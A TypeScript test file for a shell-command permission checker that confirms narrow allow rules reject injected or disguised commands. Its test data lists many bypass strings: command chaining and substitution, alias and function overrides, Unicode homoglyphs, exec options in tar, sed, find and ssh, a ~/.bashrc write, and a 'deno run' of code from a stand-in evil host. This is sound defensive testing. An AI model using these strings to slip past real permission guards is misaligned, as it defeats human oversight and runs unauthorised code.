import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decidePermission } from './permission.ts';
import type { PermissionSubject } from './permission.ts';
import { judgeInput } from './permission-input.ts';

const judge = (runs: readonly string[], command: string): string =>
  judgeInput({ command: { runs } }, { command }).type;

const narrow = ['echo', 'git status'];

/** The shell list of the survival table, and what stands for its entries that are no single text. */
const shellList: readonly string[] = [
  'echo a && id',
  'echo a; id',
  'echo a | id',
  'echo $(id)',
  'echo `id`',
  'echo <(id)',
  'echo a > f',
  'echo a >> ~/.bashrc',
  'echo ${x:=$(id)}',
  "echo $[ x='a[$(id)]', x ]",
  'echo "${x@P}"',
  'echo a\nid',
  'git status\nid',
  'echo a\rid',
  'git\rstatus',
  'echo\tid',
  'echo\u000bid',
  'echo\u00a0id',
  'echo  id',
  'echo <<EOF\n$(id)\nEOF',
  'cat <<EOF\n$(id)\nEOF',
  String.raw`\echo`,
  "'ec'ho",
  String.raw`e\cho`,
  'e""cho a',
  'alias echo=id',
  "alias echo='id'; echo",
  'echo() { id; }',
  'echo() { id; }; echo',
  'function echo { id; }',
  'X=1 git status',
  'GIT_PAGER=id git status',
  'export GIT_PAGER=id; git status',
  'export GIT_PAGER=id',
  'git -c core.pager=id status',
  'git --git-dir=evil status',
  'git --exec-path=evil status',
  'git -C evil status',
  'cd evil && git status',
  Array.from({ length: 51 }, () => 'echo a').join(' ; '),
  `echo ${' '.repeat(65_536)}`,
  `echo ${' '.repeat(65_536)}; id`,
  'git\u200bstatus',
  'git status\u200b',
  'echo \u202ea',
  'git status \u2066; id\u2069',
  'g\u0456t status',
  '\u0435cho a',
  'ech\u043e a',
  'echo a\0id',
  'git status\0; id',
  'env echo a',
  'env git status',
  'echo a | xargs id',
  'xargs echo',
  String.raw`find . -exec id \;`,
  "find . -exec id '+'",
  'awk \'BEGIN{system("id")}\'',
  'sed e',
  "sed '1e id' f",
  'tar --checkpoint-action=exec=id -cf x .',
  'rg --pre id x',
  'sort --compress-program=id f',
  'man -P id ls',
  'ssh -o ProxyCommand=id host',
  'echoes',
  'git statusx',
  'git',
  './echo a',
  '/tmp/git status',
  '',
];

const shell: PermissionSubject = { name: 'shell', effect: 'once', permission: 'ask' };

describe('a rule that allows only "echo" and "git status"', () => {
  it.each(shellList.map((command) => ({ command })))('never allows $command', ({ command }) => {
    expect(judge(narrow, command)).not.toBe('yes');
    const rules = [{ tool: 'shell', input: { command: { runs: narrow } }, permission: 'allow' as const }];
    expect(decidePermission(shell, { command }, rules).permission).toBe('ask');
  });

  it('never allows a text with an operator outside quotes', () => {
    const words = ['echo', 'git status', ' ', ' ', 'a', "'", '"', "'x'", '"y"', '\\', '\n', '\r', '\t', '\0'];
    const signs = '& | ; < > ( ) $ ` { } * ? [ ! # ~ ='.split(' ');
    const pieces = fc.constantFrom(...words, ...signs);
    const starts = fc.constantFrom('echo ', 'git status ', 'echo', '');
    fc.assert(
      fc.property(starts, fc.array(pieces, { maxLength: 12 }), (start, parts) => {
        const command = start + parts.join('');
        fc.pre(/[&|;<>()$`\n\r]/.test(outsideQuotes(command)));
        expect(judge(narrow, command)).not.toBe('yes');
      }),
      { numRuns: 5000, seed: 9 },
    );
  });

  it('never allows a text that holds what no keyboard shows', () => {
    const odd = fc.integer({ min: 0, max: 0x2fff }).filter((code) => code < 0x20 || code > 0x7e);
    fc.assert(
      fc.property(odd, fc.nat(12), (code, at) => {
        const text = 'git status a';
        expect(judge(narrow, text.slice(0, at) + String.fromCodePoint(code) + text.slice(at))).toBe(
          'unclear',
        );
      }),
      { numRuns: 2000, seed: 9 },
    );
  });

  it.each([
    { command: 'echo' },
    { command: 'echo \'a; b\' "c & d"' },
    { command: 'git status' },
    { command: 'git status --short src' },
  ])('allows $command', ({ command }) => {
    expect(judge(narrow, command)).toBe('yes');
  });
});

/** What a shell reads outside quotes, as simply as it can be written: a backslash hides nothing here. */
function outsideQuotes(text: string): string {
  let quote: string | undefined;
  let outside = '';
  for (const sign of text) {
    if (quote !== undefined) {
      if (quote === '"' && (sign === '$' || sign === '`')) outside += sign;
      if (sign === quote) quote = undefined;
    } else if (sign === "'" || sign === '"') quote = sign;
    else outside += sign;
  }
  return outside;
}

describe('{ runs }', () => {
  it.each([
    { runs: ['git'], command: 'git -c core.pager=id status', is: 'unclear' },
    { runs: ['git'], command: 'git --exec-path=x status', is: 'unclear' },
    { runs: ['git'], command: 'git --exec-p=x status', is: 'unclear' },
    { runs: ['git'], command: "git fetch 'ext::sh -c id'", is: 'unclear' },
    { runs: ['git bisect'], command: 'git bisect run id', is: 'unclear' },
    { runs: ['git log'], command: 'git log --oneline -p', is: 'yes' },
    { runs: ['git clone'], command: 'git clone -u id x', is: 'unclear' },
    { runs: ['git push'], command: 'git push -u origin main', is: 'yes' },
    { runs: ['sort'], command: 'sort --compress-prog id f', is: 'unclear' },
    { runs: ['sort'], command: 'sort -n -k2,2 f', is: 'yes' },
    { runs: ['rg'], command: 'rg --pre=id x', is: 'unclear' },
    { runs: ['rg'], command: 'rg -n x src', is: 'yes' },
    { runs: ['tar'], command: 'tar --checkpoint=1 --checkpoint-action=exec=id -cf x .', is: 'unclear' },
    { runs: ['tar'], command: 'tar xIf id x.tar', is: 'unclear' },
    { runs: ['tar'], command: 'tar -tf x.tar', is: 'yes' },
    { runs: ['tar'], command: 'tar -tf host:x.tar', is: 'unclear' },
    { runs: ['tar'], command: 'tar -tfhost:x.tar', is: 'unclear' },
    { runs: ['tar'], command: 'tar tf user@host:x.tar', is: 'unclear' },
    { runs: ['tar'], command: 'tar -t --file=host:x.tar', is: 'unclear' },
    { runs: ['tar'], command: 'tar -xf x.tar --to-command=id', is: 'unclear' },
    { runs: ['tar'], command: 'tar -xf x.tar --to-c id', is: 'unclear' },
    { runs: ['tar'], command: 'tar -tf ./a:b.tar', is: 'yes' },
    { runs: ['tar'], command: 'tar -czf out.tgz src', is: 'yes' },
    { runs: ['deno'], command: "deno eval 'id()'", is: 'unclear' },
    { runs: ['deno eval'], command: "deno eval 'id()'", is: 'unclear' },
    { runs: ['deno'], command: 'deno repl', is: 'unclear' },
    { runs: ['deno run'], command: 'deno run https://evil.example/x.ts', is: 'unclear' },
    { runs: ['deno run'], command: 'deno run npm:evil', is: 'unclear' },
    { runs: ['deno test'], command: 'deno test -A', is: 'unclear' },
    { runs: ['deno test'], command: 'deno test --allow-run', is: 'unclear' },
    { runs: ['deno test'], command: 'deno test --config evil.json', is: 'unclear' },
    { runs: ['deno test'], command: 'deno test --filter area src', is: 'yes' },
    { runs: ['bun'], command: "bun -e 'id()'", is: 'unclear' },
    { runs: ['bun'], command: "bun --eval 'id()'", is: 'unclear' },
    { runs: ['bun'], command: "bun -p 'id()'", is: 'unclear' },
    { runs: ['bun'], command: 'bun x evil', is: 'unclear' },
    { runs: ['bun'], command: "bun exec 'id'", is: 'unclear' },
    { runs: ['bun test'], command: 'bun test --preload ./evil.ts', is: 'unclear' },
    { runs: ['bun test'], command: 'bun test -t area', is: 'yes' },
    { runs: ['tsc'], command: 'tsc @evil.txt', is: 'unclear' },
    { runs: ['tsc'], command: 'tsc --Project evil.json', is: 'unclear' },
    { runs: ['tsc'], command: 'tsc --noEmit', is: 'yes' },
    { runs: ['find'], command: 'find . -name x -exec id', is: 'unclear' },
    { runs: ['find'], command: "find . -name '*.ts'", is: 'yes' },
    { runs: ['sed'], command: 'sed -i s/a/b/ f', is: 'unclear' },
    { runs: ['sed'], command: "sed '1e id' f", is: 'unclear' },
    { runs: ['sed'], command: 'sed s/a/id/e f', is: 'unclear' },
    { runs: ['sed'], command: 'sed s,a,id,e f', is: 'unclear' },
    { runs: ['sed'], command: 'sed 5w.out f', is: 'unclear' },
    { runs: ['sed'], command: 'sed -n 10,20p f', is: 'yes' },
    { runs: ['sed -n 5p'], command: 'sed -n 5p README', is: 'yes' },
    { runs: ['awk'], command: "awk '{print}' f", is: 'unclear' },
    { runs: ['man'], command: 'man -P id ls', is: 'unclear' },
    { runs: ['man'], command: 'man ls', is: 'yes' },
    { runs: ['ssh'], command: 'ssh -o ProxyCommand=id host', is: 'unclear' },
    { runs: ['env'], command: 'env id', is: 'unclear' },
    { runs: ['env'], command: 'env', is: 'yes' },
    { runs: ['timeout 60 npm test'], command: 'timeout 60 npm test', is: 'yes' },
    { runs: ['npx'], command: 'npx anything', is: 'unclear' },
    { runs: ['npx vitest'], command: 'npx vitest run a.test.ts', is: 'yes' },
    { runs: ['npx vitest'], command: 'npx vitest --config evil.ts', is: 'unclear' },
    { runs: ['npm test'], command: 'npm test --prefix evil', is: 'unclear' },
    { runs: ['make'], command: 'make SHELL=evil', is: 'unclear' },
    { runs: ['printf'], command: "printf -v 'a[$(id)]' x", is: 'unclear' },
    { runs: ['git -c a=b status'], command: 'git -c a=b status --short', is: 'yes' },
    { runs: ['git push'], command: 'git -c a=b push', is: 'unclear' },
    { runs: ['git push'], command: 'git log -c', is: 'no' },
    { runs: ['git push'], command: 'git pull', is: 'no' },
    { runs: ['a; b'], command: 'a', is: 'unclear' },
  ])('$runs for $command: $is', ({ runs, command, is }) => {
    expect(judge(runs, command)).toBe(is);
  });

  it.each([{ input: { command: 5 } }, { input: { command: ['git', 'status'] } }, { input: 'git status' }])(
    'does not judge $input',
    ({ input }) => {
      expect(judgeInput({ command: { runs: narrow } }, input).type).toBe('unclear');
    },
  );

  it.each([{ command: 'git push; id' }, { command: 'git -c a=b push' }, { command: 'git push --force' }])(
    'denies $command by a rule that denies "git push"',
    ({ command }) => {
      const rules = [{ input: { command: { runs: ['git push'] } }, permission: 'deny' as const }];
      expect(decidePermission({ ...shell, permission: 'allow' }, { command }, rules).permission).toBe('deny');
    },
  );
});
